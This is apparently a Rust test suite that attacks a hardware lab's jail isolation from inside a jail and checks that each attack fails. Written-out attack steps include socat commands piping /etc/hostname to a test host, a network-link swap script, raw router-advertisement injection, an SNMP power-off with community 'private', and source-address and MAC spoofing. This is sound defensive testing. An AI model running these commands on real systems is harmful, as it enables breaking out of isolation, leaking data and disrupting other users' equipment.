//! The jail boundary, attacked the way a claimant who is root in their
//! own jail would: each test does what the attacker did and asserts that
//! the attack fails and that the lab is still whole afterwards.

mod common;

use std::time::Duration;

use common::jails::{
    assert_link_parked, board_link, host_link_json, jail_lab, leftovers, one_at_a_time, sh, HostTarget, JailNet,
    Listener, Login, Net,
};
use common::*;
use serde_json::{json, Value};

fn claim_jailed(lab: &Lab, user: &str, class: &str) -> Value {
    let r = lab.as_user(user, &[json!({"fn": "claim", "class": class})]).remove(0);
    ok(&r).clone()
}

/// A raw JSON request written to the jail's socket from inside the jail
/// (socat, as the jail's root), the reply read back.
fn jail_socket_call(login: &Login, req: &Value) -> Value {
    let out = login.ok(&format!("printf '%s\\n' '{req}' | socat -t 5 - UNIX-CONNECT:/run/boardlab/jail.sock"));
    serde_json::from_str(out.trim()).unwrap_or_else(|e| panic!("bad reply {out:?}: {e}"))
}

#[test]
fn the_jail_socket_refuses_claims_and_operator_functions() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.0.0/24", board_net: "172.26.0.0/20", uid_base: 3_000_000 };
    let mut lab = jail_lab(3, "rockpro64", &NET, "", "");
    lab.start_labd();
    let dir = lab.path().to_path_buf();
    let c = claim_jailed(&lab, ALICE, "rockpro64");
    let login = Login::new(&dir, ALICE, &c["jail"], "a");
    let board = c["board"].as_str().unwrap().to_string();
    let other = if board == "rockpro64-1" { "rockpro64-2" } else { "rockpro64-1" };

    // What the attacker tried: claim more boards in the claimant's name.
    for req in [
        json!({"fn": "claim", "class": "rockpro64"}),
        json!({"fn": "claim", "class": "rockpro64", "wait": 5}),
        json!({"fn": "dump"}),
        json!({"fn": "maintenance", "board": other, "on": true}),
        json!({"fn": "force_release", "board": board}),
    ] {
        let r = jail_socket_call(&login, &req);
        assert_eq!(code(&r), "permission_denied", "{req} from a jail: {r}");
    }
    // labcli inside says the same.
    let o = login.run("labcli claim rockpro64");
    assert_eq!(o.status.code(), Some(1), "{o:?}");
    assert!(String::from_utf8_lossy(&o.stderr).contains("permission_denied"), "{o:?}");

    // What acts on the jail's own claim, and read-only calls, still work.
    for req in [json!({"fn": "whoami"}), json!({"fn": "status"}), json!({"fn": "classes"}), json!({"fn": "renew"})] {
        let r = jail_socket_call(&login, &req);
        assert_eq!(r["ok"], json!(true), "{req} from a jail: {r}");
    }
    // Naming another claim is refused.
    let b = claim_jailed(&lab, BOB, "rockpro64");
    let r = jail_socket_call(&login, &json!({"fn": "power_off", "handle": b["handle"]}));
    assert_eq!(code(&r), "handle_mismatch", "{r}");

    // The lab is whole: alice holds one board, bob one, one is free.
    let s = lab.req(json!({"fn": "status"}));
    let mine: Vec<&Value> = ok(&s).as_array().unwrap().iter().filter(|b| b["user"] == ALICE).collect();
    assert_eq!(mine.len(), 1, "alice holds exactly her one claim: {s}");
    let c3 = claim_jailed(&lab, BOB, "rockpro64");
    for h in [&c["handle"], &b["handle"], &c3["handle"]] {
        let who = if h == &c["handle"] { ALICE } else { BOB };
        ok(&lab.as_user(who, &[json!({"fn": "release", "handle": h})]).remove(0));
    }
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 3);
    assert!(left.is_empty(), "left behind: {left:#?}");
    let _ = Duration::ZERO;
}

fn log_of(lab: &Lab, handle: &str) -> String {
    let r = lab.req(json!({"fn": "console_log", "handle": handle}));
    r["result"]["log"].as_str().unwrap_or("").to_string()
}

/// The attack: inside the jail, root renames the real board link away,
/// makes a veth named `board` (its peer with a route to a host address)
/// and, ignoring SIGTERM, sends to the host through it while `reinit`
/// runs. Before the fix the fake link was moved to the host and brought
/// up while the jail still ran, the real one died with the namespace and
/// the board showed available but could not be claimed.
#[test]
fn a_swapped_board_link_never_reaches_the_host_and_the_real_one_comes_back() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.1.0/24", board_net: "172.26.16.0/20", uid_base: 3_300_000 };
    let target = HostTarget::new("swap", "192.0.2.1".parse().unwrap());
    let listener = Listener::new(target.addr.into());
    let mut lab = jail_lab(2, "rockpro64", &NET, "", "");
    lab.start_labd();
    let dir = lab.path().to_path_buf();
    let c = claim_jailed(&lab, ALICE, "rockpro64");
    let handle = c["handle"].as_str().unwrap().to_string();
    let board = c["board"].as_str().unwrap().to_string();
    let (host_if, _) = board_link(&lab, &board);
    let login = Login::new(&dir, ALICE, &c["jail"], "swap");
    let script = format!(
        "trap '' TERM HUP INT
ip link set board down
ip link set board name realb
ip link add board type veth peer name bpeer
ip link set board up
ip link set bpeer up
ip addr add 192.0.2.66/24 dev bpeer
ip route replace {t}/32 dev bpeer
ip neigh replace {t} lladdr $(cat /sys/class/net/board/address) dev bpeer nud permanent
echo armed > /root/armed
i=0
while [ $i -lt 600 ]; do
  echo \"swap $i\" | socat -u - UDP4-SENDTO:{t}:{p} 2>/dev/null
  socat -u OPEN:/etc/hostname TCP4:{t}:{p},connect-timeout=0.05 2>/dev/null
  i=$((i+1)); sleep 0.01
done
",
        t = target.addr,
        p = listener.port
    );
    std::fs::write(dir.join("swap.sh"), &script).unwrap();
    login.ok(&format!(
        "cat > /root/swap.sh <<'EOF'\n{script}EOF\nsetsid nohup sh /root/swap.sh >/dev/null 2>&1 </dev/null &"
    ));
    lab.wait_for(Duration::from_secs(10), "the attack to be armed", || {
        login.run("test -e /root/armed").status.success()
    });
    // The attacker's own link reaches the target while it is in the jail?
    // No: it is the jail's own veth pair; nothing leaves the jail yet.
    let r = lab.as_user(ALICE, &[json!({"fn": "reinit", "handle": handle})]).remove(0);
    let again = ok(&r).clone();
    std::thread::sleep(Duration::from_secs(3));
    assert!(listener.hits().is_empty(), "the jail reached the host: {:?}", listener.hits());

    // The real link came back and went into the new jail: the board
    // netboots from it.
    assert_eq!(again["state"], "claimed", "{again}");
    ok(&lab.as_user(ALICE, &[json!({"fn": "power_on", "handle": handle})]).remove(0));
    lab.wait_for(Duration::from_secs(20), "a DHCP lease from the rebuilt jail", || {
        log_of(&lab, &handle).contains("DHCP: lease 172.26.")
    });
    // Released, the link is parked on the host: down, no IPv6.
    ok(&lab.as_user(ALICE, &[json!({"fn": "release", "handle": handle})]).remove(0));
    assert_link_parked(&host_if);
    assert!(listener.hits().is_empty(), "the jail reached the host: {:?}", listener.hits());
    // And the board is claimable and works again.
    let again = lab.as_user(BOB, &[json!({"fn": "claim", "class": "rockpro64", "power": true})]);
    let b1 = ok(&again[0]).clone();
    let b2 = claim_jailed(&lab, BOB, "rockpro64");
    let on_board = if b1["board"] == board.as_str() { &b1 } else { &b2 };
    assert_eq!(on_board["board"], board.as_str(), "both boards claimable: {b1} {b2}");
    if on_board["power"] != "on" {
        ok(&lab.as_user(BOB, &[json!({"fn": "power_on", "handle": on_board["handle"]})]).remove(0));
    }
    let h = on_board["handle"].as_str().unwrap().to_string();
    lab.wait_for(Duration::from_secs(20), "the board to netboot for the next claimant", || {
        log_of(&lab, &h).contains("DHCP: lease 172.26.")
    });
    for b in [&b1, &b2] {
        ok(&lab.as_user(BOB, &[json!({"fn": "release", "handle": b["handle"]})]).remove(0));
    }
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
}

/// Worse: the jail deletes the real link (a veth dies with its peer) and
/// leaves a fake named `board`. The board is then faulted with a message
/// and never offered again; the class is still served by its other board.
#[test]
fn a_board_whose_link_the_jail_destroyed_is_faulted_and_never_offered() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.2.0/24", board_net: "172.26.32.0/20", uid_base: 3_600_000 };
    let mut lab = jail_lab(2, "rockpro64", &NET, "", "");
    lab.start_labd();
    let dir = lab.path().to_path_buf();
    let c = claim_jailed(&lab, ALICE, "rockpro64");
    let board = c["board"].as_str().unwrap().to_string();
    let (host_if, _) = board_link(&lab, &board);
    let login = Login::new(&dir, ALICE, &c["jail"], "del");
    login.ok("ip link del board && ip link add board type veth peer name bpeer && ip link set board up");
    ok(&lab.as_user(ALICE, &[json!({"fn": "release", "handle": c["handle"]})]).remove(0));
    assert!(host_link_json(&host_if).is_null(), "no fake link took the board link's place on the host");
    let st = lab.board(&board);
    assert_eq!(st["state"], "faulted", "{st}");
    assert!(st["fault"].as_str().unwrap_or("").contains(&host_if), "the fault names the link: {st}");
    // The class is still served, by the other board only.
    let other = claim_jailed(&lab, BOB, "rockpro64");
    assert_ne!(other["board"], board.as_str());
    let r = lab.as_user(BOB, &[json!({"fn": "claim", "class": "rockpro64"})]).remove(0);
    assert_eq!(code(&r), "no_device_available", "{r}");
    ok(&lab.as_user(BOB, &[json!({"fn": "release", "handle": other["handle"]})]).remove(0));
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
}

/// EUI-64 link-local address of a MAC.
fn link_local(mac: &str) -> String {
    let b: Vec<u8> = mac.split(':').map(|x| u8::from_str_radix(x, 16).unwrap()).collect();
    format!("fe80::{:02x}{:02x}:{:02x}ff:fe{:02x}:{:02x}{:02x}", b[0] ^ 2, b[1], b[2], b[3], b[4], b[5])
}

/// Sends one router advertisement for 2001:db8:77::/64 out of `ifname`
/// in network namespace `ns` (what a hostile board does).
fn send_router_advertisement(ns: &str, ifname: &str) {
    let (ns, ifname) = (ns.to_string(), ifname.to_string());
    std::thread::spawn(move || {
        let f = std::fs::File::open(format!("/run/netns/{ns}")).unwrap();
        nix::sched::setns(f, nix::sched::CloneFlags::CLONE_NEWNET).unwrap();
        let cname = std::ffi::CString::new(ifname.as_str()).unwrap();
        // SAFETY: a NUL-terminated name that lives across the call.
        let idx = unsafe { libc::if_nametoindex(cname.as_ptr()) };
        assert!(idx != 0, "no {ifname} in {ns}");
        let mut pkt = vec![134u8, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
        pkt.extend_from_slice(&[3, 4, 64, 0xc0, 0, 0x27, 0x8d, 0, 0, 0x09, 0x3a, 0x80, 0, 0, 0, 0]);
        pkt.extend_from_slice(&[0x20, 0x01, 0x0d, 0xb8, 0, 0x77, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        // SAFETY: plain socket calls on a descriptor this thread owns and
        // closes; every pointer passed lives across its call.
        unsafe {
            let fd = libc::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6);
            assert!(fd >= 0, "raw socket: {}", std::io::Error::last_os_error());
            let hops: libc::c_int = 255;
            let sz = std::mem::size_of::<libc::c_int>() as libc::socklen_t;
            libc::setsockopt(fd, libc::IPPROTO_IPV6, libc::IPV6_MULTICAST_HOPS, &hops as *const _ as *const _, sz);
            let mut dst: libc::sockaddr_in6 = std::mem::zeroed();
            dst.sin6_family = libc::AF_INET6 as libc::sa_family_t;
            dst.sin6_addr.s6_addr = "ff02::1".parse::<std::net::Ipv6Addr>().unwrap().octets();
            dst.sin6_scope_id = idx;
            let n = libc::sendto(
                fd,
                pkt.as_ptr() as *const _,
                pkt.len(),
                0,
                &dst as *const _ as *const libc::sockaddr,
                std::mem::size_of::<libc::sockaddr_in6>() as libc::socklen_t,
            );
            assert_eq!(n, pkt.len() as isize, "sendto: {}", std::io::Error::last_os_error());
            libc::close(fd);
        }
    })
    .join()
    .unwrap();
}

/// From the board's side of its link (hostile in the threat model), the
/// host is out of reach while no jail holds the link: never claimed, or
/// released. Tried over IPv4 (a static neighbour entry for the host end),
/// IPv6 link-local, and with a router advertisement.
#[test]
fn unclaimed_and_released_board_links_reach_nothing_on_the_host() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.3.0/24", board_net: "172.26.48.0/20", uid_base: 3_900_000 };
    let target = HostTarget::new("park", "192.0.2.2".parse().unwrap());
    let v4 = Listener::new(target.addr.into());
    let v6 = Listener::new("::".parse().unwrap());
    let mut lab = jail_lab(2, "rockpro64", &NET, "", "");
    lab.start_labd();
    let dir = lab.path().to_path_buf();
    // Board A is claimed and released; board B is never claimed.
    let c = claim_jailed(&lab, ALICE, "rockpro64");
    ok(&lab.as_user(ALICE, &[json!({"fn": "release", "handle": c["handle"]})]).remove(0));
    for board in ["rockpro64-1", "rockpro64-2"] {
        let (host_if, ns) = board_link(&lab, board);
        assert_link_parked(&host_if);
        let mac = host_link_json(&host_if)["address"].as_str().unwrap().to_string();
        let ll = link_local(&mac);
        let t = target.addr.to_string();
        for cmd in [
            vec!["ip", "-n", &ns, "link", "set", "eth0", "up"],
            vec!["ip", "-n", &ns, "addr", "replace", "192.0.2.77/24", "dev", "eth0"],
            vec!["ip", "-n", &ns, "route", "replace", &t, "dev", "eth0"],
            vec!["ip", "-n", &ns, "neigh", "replace", &t, "lladdr", &mac, "dev", "eth0", "nud", "permanent"],
            vec!["ip", "-n", &ns, "neigh", "replace", &ll, "lladdr", &mac, "dev", "eth0", "nud", "permanent"],
        ] {
            let o = sh(&cmd);
            assert!(o.status.success(), "{cmd:?}: {}", String::from_utf8_lossy(&o.stderr));
        }
        std::thread::sleep(Duration::from_millis(1500)); // eth0's own IPv6 address leaves DAD
        for _ in 0..5 {
            let v4u = format!("UDP4-SENDTO:{t}:{}", v4.port);
            let v4t = format!("TCP4:{t}:{},connect-timeout=0.2", v4.port);
            let v6u = format!("UDP6-SENDTO:[{ll}%eth0]:{}", v6.port);
            let v6t = format!("TCP6:[{ll}%eth0]:{},connect-timeout=0.2", v6.port);
            for a in [&v4u, &v4t, &v6u, &v6t] {
                let _ = std::process::Command::new("ip")
                    .args(["netns", "exec", &ns, "socat", "-u", "OPEN:/etc/hostname", a])
                    .output();
            }
        }
        send_router_advertisement(&ns, "eth0");
        std::thread::sleep(Duration::from_secs(2));
        let addrs = String::from_utf8_lossy(&sh(&["ip", "-6", "addr", "show", "dev", &host_if]).stdout).to_string();
        assert!(!addrs.contains("2001:db8:77"), "{board}: the host took an address from the board's RA: {addrs}");
        let routes =
            String::from_utf8_lossy(&sh(&["ip", "-6", "route", "show", "2001:db8:77::/64"]).stdout).to_string();
        assert!(routes.trim().is_empty(), "{board}: the host took a route from the board's RA: {routes}");
        assert!(v4.hits().is_empty(), "{board}: the board reached the host over IPv4: {:?}", v4.hits());
        assert!(v6.hits().is_empty(), "{board}: the board reached the host over IPv6: {:?}", v6.hits());
        assert_link_parked(&host_if);
    }
    // The lab is whole: both boards can be claimed and netboot.
    let a = lab.as_user(BOB, &[json!({"fn": "claim", "class": "rockpro64", "power": true})]).remove(0);
    let a = ok(&a).clone();
    let h = a["handle"].as_str().unwrap().to_string();
    lab.wait_for(Duration::from_secs(20), "the board to netboot", || log_of(&lab, &h).contains("DHCP: lease 172.26."));
    ok(&lab.as_user(BOB, &[json!({"fn": "release", "handle": h})]).remove(0));
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
}

/// A claim that ends while its jail is being built (its lease runs out, or
/// an operator force-releases the board): the finished jail is removed at
/// once, the board is not powered for the ended claim, and it is free
/// again. The build is slowed down on purpose (fault injection).
#[test]
fn a_jail_finished_for_a_claim_that_ended_is_removed_and_the_board_stays_off() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.4.0/24", board_net: "172.26.64.0/20", uid_base: 4_200_000 };
    let mut lab = jail_lab(2, "rockpro64", &NET, "", "");
    lab.start_labd_env(&[("LABD_FAULT_JAIL_BUILD_DELAY_MS", "3000")]);
    let dir = lab.path().to_path_buf();

    // 1. The lease (1 s) runs out during the 3 s build.
    let r = lab.as_user(ALICE, &[json!({"fn": "claim", "class": "rockpro64", "power": true, "lease": 1})]).remove(0);
    assert_eq!(code(&r), "not_claimed", "{r}");
    // 2. An operator force-releases the board during the build.
    let waiting = std::thread::scope(|s| {
        let h = s.spawn(|| lab.as_user(BOB, &[json!({"fn": "claim", "class": "rockpro64", "power": true})]).remove(0));
        lab.wait_for(Duration::from_secs(10), "bob's claim to be recorded", || {
            lab.board("rockpro64-1")["user"] == BOB || lab.board("rockpro64-2")["user"] == BOB
        });
        let board = if lab.board("rockpro64-1")["user"] == BOB { "rockpro64-1" } else { "rockpro64-2" };
        ok(&lab.req(json!({"fn": "force_release", "board": board})));
        (board, h.join().unwrap())
    });
    let (forced, r) = waiting;
    assert_eq!(code(&r), "not_claimed", "{r}");

    // Nothing of either jail is left, no board was powered for them, and
    // both boards are free.
    lab.wait_for(Duration::from_secs(15), "both boards free", || {
        ["rockpro64-1", "rockpro64-2"].iter().all(|b| lab.board(b)["state"] == "available")
    });
    for b in ["rockpro64-1", "rockpro64-2"] {
        assert_eq!(lab.switch_power(b), "off", "{b} at the switch");
    }
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
    let d = lab.req(json!({"fn": "dump"}));
    let events = ok(&d)["events"].as_array().unwrap().clone();
    assert!(!events.iter().any(|e| e["kind"] == "power_on"), "no board was powered on for an ended claim: {events:#?}");
    assert!(events.iter().any(|e| e["kind"] == "force_release" && e["board"] == forced), "{events:#?}");
    // The lab is whole: a claim now gets a working jail.
    let c = claim_jailed(&lab, ALICE, "rockpro64");
    let login = Login::new(&dir, ALICE, &c["jail"], "race");
    assert_eq!(login.ok("id -u").trim(), "0");
    ok(&lab.as_user(ALICE, &[json!({"fn": "release", "handle": c["handle"]})]).remove(0));
}

/// The attack: from a jail, an SNMP set to the switch on the host's
/// management network (community `private`) to power off another user's
/// board. The switch here is a second snmpd over the lab's own port table,
/// in a "management" namespace the host reaches over a veth (labd powers
/// the boards through it), on the jails' NAT interface. Egress from a jail
/// is default-deny: never to the switches, the host, the operators'
/// `deny_out` prefixes, or out of any interface but the NAT one.
#[test]
fn a_jail_reaches_neither_the_switch_nor_the_hosts_other_networks() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "10.195.5.0/24", board_net: "172.26.80.0/20", uid_base: 4_500_000 };
    let mgmt = Net::new(
        "mg",
        "198.51.100.1/24",
        &["198.51.100.2/24", "198.51.100.50/24", "198.51.100.130/24"],
        "198.51.100.1",
    );
    let other = Net::new("ot", "203.0.113.1/24", &["203.0.113.2/24"], "203.0.113.1");
    let extra = format!("nat_interface = \"{}\"\ndeny_out = [\"198.51.100.128/25\"]", mgmt.host_if);
    let mut lab = jail_lab(2, "rockpro64", &NET, &extra, "");
    let dir = lab.path().to_path_buf();
    // The switch labd uses is the one on the management network.
    let conf = dir.join("snmpd-mgmt.conf");
    std::fs::write(
        &conf,
        format!(
            "rwcommunity private default\npass_persist .1.3.6.1.2.1.105.1.1.1.3 {} pass-persist --dir {}\n",
            labsim_exe().display(),
            dir.display()
        ),
    )
    .unwrap();
    let snmpd = std::process::Command::new("ip")
        .args(["netns", "exec", &mgmt.ns, "snmpd", "-f", "-Lf"])
        .arg(dir.join("snmpd-mgmt.log"))
        .args(["-C", "-c"])
        .arg(&conf)
        .args(["-m", "", "udp:198.51.100.2:161"])
        .env("MIBS", "")
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut mgmt = mgmt;
    mgmt.children.push(snmpd);
    let toml = dir.join("lab.toml");
    let t = std::fs::read_to_string(&toml).unwrap();
    let host_line = t.lines().find(|l| l.trim_start().starts_with("host = \"127.0.0.1:")).unwrap().to_string();
    std::fs::write(&toml, t.replace(&host_line, "host = \"198.51.100.2:161\"")).unwrap();
    lab.wait_for(Duration::from_secs(10), "the management snmpd", || {
        sh(&["snmpget", "-v2c", "-c", "private", "-t", "1", "-r", "0", "198.51.100.2", ".1.3.6.1.2.1.105.1.1.1.3.1.1"])
            .status
            .success()
    });
    lab.start_labd();

    let allowed = Listener::in_netns(Some(&mgmt.ns), "198.51.100.50".parse().unwrap());
    let denied = Listener::in_netns(Some(&mgmt.ns), "198.51.100.130".parse().unwrap());
    let elsewhere = Listener::in_netns(Some(&other.ns), "203.0.113.2".parse().unwrap());
    let host = Listener::new("198.51.100.1".parse().unwrap());

    let a = claim_jailed(&lab, ALICE, "rockpro64");
    let b = lab.as_user(BOB, &[json!({"fn": "claim", "class": "rockpro64", "power": true})]).remove(0);
    let b = ok(&b).clone();
    let bob_board = b["board"].as_str().unwrap().to_string();
    assert_eq!(lab.switch_power(&bob_board), "on");
    let port = lab.board_port(&bob_board);
    let login = Login::new(&dir, ALICE, &a["jail"], "egress");

    // The attack itself: the switch does not answer a jail.
    let oid = format!(".1.3.6.1.2.1.105.1.1.1.3.1.{port}");
    let o = login.run(&format!("snmpset -v2c -c private -t 1 -r 1 198.51.100.2 {oid} i 2"));
    assert!(!o.status.success(), "the jail reached the switch: {o:?}");
    let o = login.run(&format!("snmpget -v2c -c private -t 1 -r 0 198.51.100.2 {oid}"));
    assert!(!o.status.success(), "the jail reached the switch: {o:?}");
    assert_eq!(lab.switch_power(&bob_board), "on", "bob's board is still on at the switch");
    assert_eq!(lab.board(&bob_board)["power"], "on");

    // Egress: only out of the NAT interface, never to a denied prefix or
    // the host itself; what is allowed is masqueraded as the host.
    let send = |addr: &str, port: u16| {
        let _ = login.run(&format!(
            "echo egress | socat -u - UDP4-SENDTO:{addr}:{port}; socat -u OPEN:/etc/hostname TCP4:{addr}:{port},connect-timeout=1"
        ));
    };
    send("198.51.100.50", allowed.port);
    send("198.51.100.130", denied.port);
    send("203.0.113.2", elsewhere.port);
    send("198.51.100.1", host.port);
    std::thread::sleep(Duration::from_millis(500));
    let ok_hits = allowed.hits();
    assert!(
        ok_hits.iter().any(|h| h.starts_with("tcp from 198.51.100.1:")),
        "allowed egress, masqueraded: {ok_hits:?}"
    );
    assert!(denied.hits().is_empty(), "reached a deny_out prefix: {:?}", denied.hits());
    assert!(elsewhere.hits().is_empty(), "left by another interface than the NAT one: {:?}", elsewhere.hits());
    assert!(host.hits().is_empty(), "reached the host: {:?}", host.hits());

    // The lab is whole: labd still powers the boards through the switch.
    ok(&lab.as_user(BOB, &[json!({"fn": "power_off", "handle": b["handle"]})]).remove(0));
    assert_eq!(lab.switch_power(&bob_board), "off");
    for (u, c) in [(ALICE, &a), (BOB, &b)] {
        ok(&lab.as_user(u, &[json!({"fn": "release", "handle": c["handle"]})]).remove(0));
    }
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
}

/// The macvlan uplink (a jail is a host on the parent's LAN; here the
/// parent is a veth whose other end is a "LAN" namespace): its frames
/// never pass the host's forward chain, so the parent's egress filter
/// keeps the same rules. A jail reaches the LAN but not a `deny_out`
/// prefix, not the other jail on the same parent, and nothing at all once
/// it changes its IP or MAC address.
#[test]
fn a_macvlan_jail_is_held_to_the_same_egress_rules() {
    let _turn = one_at_a_time();
    const NET: JailNet = JailNet { pool: "198.18.77.0/24", board_net: "172.26.96.0/20", uid_base: 4_800_000 };
    let lan =
        Net::new("lan", "198.18.77.254/24", &["198.18.77.1/24", "198.18.77.50/24", "198.18.77.200/24"], "198.18.77.1");
    let extra =
        format!("uplink = \"macvlan\"\nmacvlan_parent = \"{}\"\ndeny_out = [\"198.18.77.128/25\"]", lan.host_if);
    let mut lab = jail_lab(2, "rockpro64", &NET, &extra, "");
    lab.start_labd();
    let dir = lab.path().to_path_buf();
    let allowed = Listener::in_netns(Some(&lan.ns), "198.18.77.50".parse().unwrap());
    let denied = Listener::in_netns(Some(&lan.ns), "198.18.77.200".parse().unwrap());
    let host = Listener::new("198.18.77.254".parse().unwrap());
    let a = claim_jailed(&lab, ALICE, "rockpro64");
    let b = claim_jailed(&lab, BOB, "rockpro64");
    let mut login = Login::new(&dir, ALICE, &a["jail"], "mv-a");
    login.via_netns = Some(lan.ns.clone());
    assert_eq!(login.ok("id -u").trim(), "0", "the jail answers ssh from its LAN");
    let send = |login: &Login, addr: &str, port: u16, bind: &str| {
        let _ = login.run(&format!(
            "echo mv | socat -u - UDP4-SENDTO:{addr}:{port}{bind}; socat -u OPEN:/etc/hostname TCP4:{addr}:{port},connect-timeout=1{bind}"
        ));
    };
    send(&login, "198.18.77.50", allowed.port, "");
    send(&login, "198.18.77.200", denied.port, "");
    send(&login, "198.18.77.254", host.port, "");
    std::thread::sleep(Duration::from_millis(500));
    let jail_ip = a["jail"]["ip"].as_str().unwrap();
    assert!(
        allowed.hits().iter().any(|h| h.starts_with(&format!("tcp from {jail_ip}:"))),
        "the LAN is reachable, from the jail's own address: {:?}",
        allowed.hits()
    );
    assert!(denied.hits().is_empty(), "reached a deny_out prefix: {:?}", denied.hits());
    assert!(host.hits().is_empty(), "reached the host: {:?}", host.hits());
    // The other jail on the same parent is out of reach.
    let other = b["jail"]["ip"].as_str().unwrap();
    let o = login.run(&format!("ping -c 2 -W 1 {other}"));
    assert!(!o.status.success(), "jail reached jail {other}: {o:?}");
    // A spoofed source address, then a changed MAC address: nothing leaves.
    let before = allowed.hits().len();
    login.ok("ip addr add 198.18.77.99/24 dev uplink");
    send(&login, "198.18.77.50", allowed.port, ",bind=198.18.77.99");
    std::thread::sleep(Duration::from_millis(300));
    assert_eq!(allowed.hits().len(), before, "a spoofed source went out: {:?}", allowed.hits());
    // (In the background: the filter drops this ssh session's replies too.)
    login.ok(&"setsid nohup sh -c 'sleep 0.5; ip link set uplink address 0a:b1:ee:ee:ee:ee; \
          for i in 1 2 3 4 5; do echo mv | socat -u - UDP4-SENDTO:198.18.77.50:PORT; sleep 0.2; done' \
          >/dev/null 2>&1 </dev/null &"
        .replace("PORT", &allowed.port.to_string()));
    std::thread::sleep(Duration::from_secs(3));
    assert_eq!(allowed.hits().len(), before, "a changed MAC address went out: {:?}", allowed.hits());
    for (u, c) in [(ALICE, &a), (BOB, &b)] {
        ok(&lab.as_user(u, &[json!({"fn": "release", "handle": c["handle"]})]).remove(0));
    }
    drop(lab);
    let left = leftovers(&dir, NET.uid_base, 2);
    assert!(left.is_empty(), "left behind: {left:#?}");
}
